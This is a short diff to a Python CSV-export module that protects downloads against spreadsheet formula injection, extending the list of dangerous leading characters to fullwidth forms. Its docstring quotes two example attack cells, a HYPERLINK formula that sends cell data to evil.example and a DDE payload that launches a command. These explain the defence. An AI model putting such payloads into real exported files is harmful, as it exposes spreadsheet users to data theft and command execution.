@@ -2,16 +2,18 @@
 
 Cells come from uploaded files, so a cell such as `=HYPERLINK("https://evil.example/?"&A1)` or
 `+cmd|' /C calc'!A0` would run as a formula when a librarian opens the download. OWASP's rule
-(CSV injection): a cell that starts with = + - @, a tab or a carriage return gets a leading
-single quote, which spreadsheets show as text. Every CSV the product writes goes through
-`safe_csv_writer`.
+(CSV injection): a cell that starts with = + - @ (or their fullwidth forms), a tab or a
+carriage return gets a leading single quote, which spreadsheets show as text. Every CSV the
+product writes goes through `safe_csv_writer`.
 """
 
 import csv
 
 # What makes Excel, LibreOffice or Google Sheets read a cell as a formula (a tab or a carriage
-# return first is stripped by some of them, and what follows is then read as a formula).
-FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+# return first is stripped by some of them, and what follows is then read as a formula), and
+# the fullwidth forms of the four signs, which Excel with an East Asian input language reads as
+# the ASCII ones.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
 
 
 def neutralise_cell(value) -> str:
